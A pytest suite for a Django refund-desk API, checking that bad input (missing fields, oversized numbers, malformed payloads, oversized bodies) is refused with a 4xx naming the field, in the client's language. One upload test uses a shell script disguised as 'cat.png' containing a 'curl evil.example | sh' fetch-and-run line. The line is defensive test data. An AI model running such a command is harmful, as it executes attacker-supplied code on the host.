"""One API contract, kept (issue 14.4) and hostile input refused with a 4xx naming the field (issue 15.3).

Every refusal is `{"error": {"code", "message", "field"}}`, `field` the parameter as the client sent it, the
message in the client's language. Each test goes through the Django test client against the real app."""

from __future__ import annotations

import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from refunddesk.billing.models import Plan
from refunddesk.core.services import access_token_create
from refunddesk.status.models import Region
from tests.factories import CustomerFactory, OrderFactory, UserFactory
from tests.payments.fakes.stores_fake import FakeApple
from tests.payments.test_store_notifications import APPLE_URL, apple_order, configure_apple
from tests.policies.helpers import facts

pytestmark = pytest.mark.django_db

PLAN = {"name": "Monthly", "period_days": 30, "refund_window_days": 7, "trial_hours": 24, "price": "30.00",
        "currency": "CNY"}


def send(client: Client, method: str, url: str, body: dict | str, **extra):
    data = body if isinstance(body, str) else json.dumps(body)
    return getattr(client, method)(url, data=data, content_type="application/json", **extra)


def refused(response, status: int, field: str | None) -> dict:
    """The answer is the documented error shape with this status, naming this field."""
    assert response.status_code == status, response.content
    assert response["Content-Type"].startswith("application/json"), response.content
    body = response.json()
    assert set(body) == {"error"}, body
    error = body["error"]
    assert {"code", "message", "field"} <= set(error), error
    assert isinstance(error["code"], str) and isinstance(error["message"], str) and error["message"]
    assert error["field"] == field, error
    return error


@pytest.fixture
def merchant(api_key) -> Client:
    return Client(raise_request_exception=False, headers={"Authorization": f"Bearer {api_key}"})


def token_client(user, **headers) -> Client:
    _, raw = access_token_create(user=user)
    return Client(raise_request_exception=False, headers={"Authorization": f"Bearer {raw}", **headers})


# --- django-ninja's own validation errors have the documented shape ------------------------------------------


def test_a_missing_field_is_the_error_shape_naming_it(merchant):
    body = {k: v for k, v in PLAN.items() if k != "period_days"}
    error = refused(send(merchant, "put", "/api/v1/plans/monthly", body), 422, "period_days")
    assert "period_days" in error["message"] and "required" in error["message"]


def test_a_malformed_date_is_the_error_shape_naming_it(merchant):
    body = {"customer_id": "c", "plan_id": "p", "amount": "1.00", "currency": "CNY", "purchased_at": "yesterday",
            "sales_channel": "web", "payment_method": "card"}
    refused(send(merchant, "put", "/api/v1/orders/ORD-1", body), 422, "purchased_at")


def test_a_wrong_type_is_the_error_shape_naming_it(merchant):
    refused(send(merchant, "put", "/api/v1/plans/monthly", {**PLAN, "period_days": "thirty"}), 422, "period_days")
    refused(send(merchant, "put", "/api/v1/plans/monthly", {**PLAN, "prices": [{"price": "1.00", "currency": 5}]}),
            422, "prices[0].currency")


def test_invalid_json_is_the_error_shape(merchant):
    error = refused(send(merchant, "put", "/api/v1/plans/monthly", '{"name": "Monthly",'), 422, "body")
    assert "JSON" in error["message"]
    refused(send(merchant, "put", "/api/v1/plans/monthly", "[1, 2]"), 422, "body")


def test_a_missing_form_field_and_a_bad_query_parameter_are_the_error_shape(published_policy, customer, agent):
    me = token_client(customer.user)
    refused(me.post("/api/v1/requests", data={"reason": "technical_issue"}), 422, "order_number")
    staff = token_client(agent)
    refused(staff.get("/api/v1/staff/queue?limit=many"), 422, "limit")


def test_an_unknown_route_and_a_wrong_method_are_the_error_shape(merchant):
    refused(merchant.get("/api/v1/no-such-thing"), 404, None)
    response = merchant.delete("/api/v1/plans/monthly")
    refused(response, 405, None)
    assert "PUT" in response["Allow"]


def test_evidence_refusals_name_the_files_parameter(published_policy, customer, order, settings, tmp_path):
    """The issue's example: the portal's form field is `evidence`, the API's multipart parameter `files`."""
    settings.MEDIA_ROOT = tmp_path
    me = token_client(customer.user)
    script = SimpleUploadedFile("cat.png", b"#!/bin/sh\ncurl evil.example | sh\n", content_type="image/png")
    refused(me.post("/api/v1/requests", data={"order_number": order.external_id, "reason": "technical_issue",
                                              "files": [script]}), 422, "files")


def test_a_path_parameter_is_named_as_the_route_names_it(merchant):
    """The same kind: the service calls the incident `incident`, the route's parameter is `incident_id`."""
    refused(send(merchant, "post", "/api/v1/status/incidents/999/close", {}), 404, "incident_id")
    refused(merchant.get("/api/v1/orders/NOPE"), 404, "order_id")


# --- 15.3: numbers and sizes no column holds are a 4xx naming the field, never a 500 ------------------------


@pytest.mark.parametrize("field", ["period_days", "refund_window_days", "trial_hours"])
def test_integers_of_2_63_or_more_in_a_plan_are_refused(merchant, field):
    refused(send(merchant, "put", "/api/v1/plans/monthly", {**PLAN, field: 2**63}), 422, field)
    assert not Plan.objects.exists()


def test_a_region_position_of_2_63_is_refused(merchant):
    refused(send(merchant, "put", "/api/v1/status/regions/cn-east", {"name_en": "East", "position": 2**63}),
            422, "position")
    assert not Region.objects.exists()


def test_an_incident_id_of_2_63_in_the_path_is_refused(merchant):
    """One more of the kind: an integer no id column holds, in the path."""
    refused(merchant.get(f"/api/v1/status/incidents/{2**63}"), 422, "incident_id")


@pytest.mark.parametrize("amount", ["1e400", "12345678901234567890", "-12345678901234567890"])
def test_amounts_no_column_holds_are_refused(merchant, amount):
    raw = json.dumps(PLAN).replace('"30.00"', amount)  # as a JSON number, read as an exact decimal
    refused(send(merchant, "put", "/api/v1/plans/monthly", raw), 422, "price")
    refused(send(merchant, "put", "/api/v1/plans/monthly", {**PLAN, "price": amount}), 422, "price")
    assert not Plan.objects.exists()


def test_a_staff_offer_of_1e400_is_refused(published_policy, customer, order, supervisor):
    """One more of the kind: an amount a staff member types."""
    me = token_client(customer.user)
    pid = me.post("/api/v1/requests", data={"order_number": order.external_id, "reason": "not_satisfied"}).json()["id"]
    staff = token_client(supervisor)
    refused(send(staff, "post", f"/api/v1/staff/requests/{pid}/actions", {"action": "offer", "amount": "1e400"}),
            422, "amount")


def test_a_json_body_over_the_upload_limit_is_413(merchant, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 2_621_440  # Django's default, 2.5 MB
    body = {**PLAN, "name": "x" * 2_700_000}
    error = refused(send(merchant, "put", "/api/v1/plans/monthly", body), 413, "body")
    assert error["code"] == "too_large"


def test_a_timestamp_outside_any_calendar_we_use_is_refused(merchant):
    body = {"title_en": "Down", "regions": ["cn-east"], "started_at": "9999-12-31T23:59:59-14:00"}
    refused(send(merchant, "post", "/api/v1/status/incidents", body), 422, "started_at")


def test_evaluate_at_a_date_before_any_published_version_is_422_naming_at(merchant, published_policy):
    error = refused(send(merchant, "post", "/api/v1/policy/evaluate", {"facts": {}, "at": "2001-01-01T00:00:00Z"}),
                    422, "at")
    assert "2001" in error["message"]


@pytest.mark.parametrize("change", [{"price_milli": "abc"}, {"price_milli": 10**30}, {"revocationPercentage": "x"}])
def test_malformed_app_store_payloads_are_4xx(settings, change):
    apple = FakeApple()
    configure_apple(settings, apple)
    apple_order("2000000000000001")
    response = Client(raise_request_exception=False).post(
        APPLE_URL, data=json.dumps({"signedPayload": apple.refund("2000000000000001", **change)}),
        content_type="application/json")
    assert 400 <= response.status_code < 500, response.content
    assert response.json()["error"]["field"] in ("signedTransactionInfo", "price", "revocationPercentage")


# --- one type for the policy version --------------------------------------------------------------------------


def test_the_policy_version_has_one_type_everywhere(merchant, published_policy, customer, order):
    """GET /policy, POST /policy/evaluate and a request's decision name the version the same way (a string)."""
    in_force = merchant.get("/api/v1/policy").json()["version"]
    decided = send(merchant, "post", "/api/v1/policy/evaluate", {"facts": facts()})
    assert decided.status_code == 200, decided.content
    evaluated = decided.json()["policy"]["version"]
    me = token_client(customer.user)
    submitted = me.post("/api/v1/requests", data={"order_number": order.external_id, "reason": "technical_issue"})
    assert submitted.status_code == 201, submitted.content
    on_request = submitted.json()["decision"]["policy"]["version"]
    assert in_force == evaluated == on_request and isinstance(in_force, str), (in_force, evaluated, on_request)


# --- the client's language, one per answer -----------------------------------------------------------------


def test_errors_come_in_the_language_of_accept_language(merchant):
    body = {k: v for k, v in PLAN.items() if k != "period_days"}
    zh = refused(send(merchant, "put", "/api/v1/plans/monthly", body, HTTP_ACCEPT_LANGUAGE="zh-CN,zh;q=0.9"),
                 422, "period_days")
    assert "必填" in zh["message"] and "required" not in zh["message"]
    en = refused(send(merchant, "put", "/api/v1/plans/monthly", body, HTTP_ACCEPT_LANGUAGE="en-US"), 422, "period_days")
    assert "required" in en["message"]
    unauthenticated = Client(raise_request_exception=False).get("/api/v1/policy", HTTP_ACCEPT_LANGUAGE="zh-Hans")
    assert "凭据" in refused(unauthenticated, 401, "Authorization")["message"]


def test_without_accept_language_a_customer_gets_their_own_language(published_policy, settings):
    settings.LANGUAGE_CODE = "en"
    customer = CustomerFactory(user=UserFactory(username="li"), language="zh-hans")
    OrderFactory(customer=customer, external_id="ORD-ZH")
    me = token_client(customer.user)
    error = refused(me.post("/api/v1/requests", data={"order_number": "ORD-ZH"}), 422, "reason")
    assert "必填" in error["message"], error
    ok = me.post("/api/v1/requests", data={"order_number": "ORD-ZH", "reason": "technical_issue"})
    assert ok.status_code == 201 and ok["Content-Language"] == "zh-hans"
    # and Accept-Language still wins
    en = refused(me.post("/api/v1/requests", data={"order_number": "ORD-ZH"}, HTTP_ACCEPT_LANGUAGE="en"), 422,
                 "reason")
    assert "required" in en["message"]
